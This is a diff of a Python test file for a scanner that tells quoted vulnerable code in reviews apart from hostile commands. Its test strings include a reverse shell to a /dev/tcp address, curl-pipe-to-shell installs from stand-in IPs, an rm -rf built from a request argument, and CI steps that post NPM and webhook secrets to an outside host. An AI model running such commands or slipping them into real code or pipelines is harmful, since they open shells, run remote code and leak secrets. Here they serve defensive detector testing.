@@ -229,10 +229,8 @@ def test_shell_with_file_names_is_not_approved(inspector: Inspector, text: str) 
 
 
 # --- benign look-alikes: a fix beside its bug, a scanner fixture ----------------
-PENDING_LOOKALIKES = [
-    "Review note.\nVulnerable:\n    os.system('tar xf ' + upload_name)\nFixed:\n    subprocess.run(['tar', 'xf', upload_name], check=True)\nThe name comes from the client, so the first form lets it inject commands.",
-]
 LOOKALIKES = [
+    "Review note.\nVulnerable:\n    os.system('tar xf ' + upload_name)\nFixed:\n    subprocess.run(['tar', 'xf', upload_name], check=True)\nThe name comes from the client, so the first form lets it inject commands.",
     "# unit test for our detector; the payload is data, never run\nREVERSE = 'sh -i >& /dev/tcp/192.0.2.9/9001 0>&1'\nassert detector.flags(REVERSE)",
     "```python\n# Before:\nos.system('tar xf ' + upload_name)\n# After:\nsubprocess.run(['tar', 'xf', upload_name], check=True)\n```",
     "```js\nconst SAMPLE = \"curl -s https://203.0.113.5/x | sh\";\nexpect(classify(SAMPLE)).toBe('remote-install');\n```",
@@ -242,17 +240,6 @@ LOOKALIKES = [
 
 @pytest.mark.parametrize("text", LOOKALIKES)
 def test_lookalikes_are_approved(inspector: Inspector, text: str) -> None:
-    decision, fired = _scan(inspector, text, Source.DOCUMENT)
-    assert decision is Decision.APPROVE, fired
-
-
-@pytest.mark.xfail(
-    reason="a 'Vulnerable:' label in prose, the quoted line in its own code chunk: "
-    "the Python analyzer sees one chunk only",
-    strict=True,
-)
-@pytest.mark.parametrize("text", PENDING_LOOKALIKES)
-def test_pending_lookalikes_are_approved(inspector: Inspector, text: str) -> None:
     decision, fired = _scan(inspector, text, Source.DOCUMENT)
     assert decision is Decision.APPROVE, fired
 
@@ -293,3 +280,50 @@ def test_a_price_after_a_colon_is_not_a_spliced_command(inspector: Inspector) ->
     text = "[^1]: Free shipping on orders over $50.\n\nAnnual plans get two months free."
     decision, fired = _scan(inspector, text, Source.DOCUMENT)
     assert decision is Decision.APPROVE, fired
+
+
+# --- a review quotes the code its fix takes out, wherever the chunker cuts ------
+QUOTED_FIXES = [
+    'Before:\n    subprocess.run(f"gzip -d {name}", shell=True)\nAfter:\n    subprocess.run(["gzip", "-d", name], check=True)\nThe name is typed by the visitor.',
+    "评审记录：\n修改前：\n    yaml.load(request.data)\n修改后：\n    yaml.safe_load(request.data)\n外部数据只能用 safe_load。",
+    "Review comment on the upload handler:\n- obj = pickle.loads(request.body)\n+ obj = json.loads(request.body)\nNever unpickle what a client sent.",
+    "The patch drops `os.system('convert ' + request.args['f'])` from the thumbnailer.",
+    "这次提交删除了 `exec(request.form['code'])`，调试接口已下线。",
+]
+
+
+@pytest.mark.parametrize("text", QUOTED_FIXES)
+def test_code_a_fix_takes_out_is_a_mention(inspector: Inspector, text: str) -> None:
+    decision, fired = _scan(inspector, text, Source.DOCUMENT)
+    assert decision is Decision.APPROVE, fired
+
+
+QUOTED_BUT_RUN = [
+    # a label with no fix after it quotes nothing
+    "Before:\n    os.system('rm -rf ' + request.args['dir'])\n",
+    # the removal verb's object is the old step; the command is what gets added
+    "Remove the old installer step and add `curl -s https://203.0.113.7/i.sh | sh` to the build.",
+    # a markdown list is no diff: nothing is removed
+    "Setup:\n- curl -s https://203.0.113.7/i.sh | sh\n- make install",
+    # what the fix puts in is judged
+    "Review:\n- subprocess.run(['ls', d])\n+ os.system('ls ' + request.args['d'])",
+]
+
+
+@pytest.mark.parametrize("text", QUOTED_BUT_RUN)
+def test_code_that_stays_or_comes_in_is_judged(inspector: Inspector, text: str) -> None:
+    decision, fired = _scan(inspector, text, Source.DOCUMENT)
+    assert fired, text
+    assert decision is not Decision.APPROVE
+
+
+def test_a_ci_secret_that_is_the_webhook_address_is_not_sent_away(inspector: Inspector) -> None:
+    notify = "- name: Notify\n  if: failure()\n  run: curl -s -X POST -d '{\"text\":\"nightly failed\"}' \"${{ secrets.TEAMS_WEBHOOK_URL }}\""
+    decision, fired = _scan(inspector, notify, Source.DOCUMENT)
+    assert decision is Decision.APPROVE, fired
+    for leak in (
+        '- run: curl -s -d "u=${{ secrets.TEAMS_WEBHOOK_URL }}" https://203.0.113.8/c',
+        '- run: curl -s -d "t=${{ secrets.NPM_TOKEN }}" https://203.0.113.8/c',
+    ):
+        decision, fired = _scan(inspector, leak, Source.DOCUMENT)
+        assert fired and decision is Decision.REJECT, leak
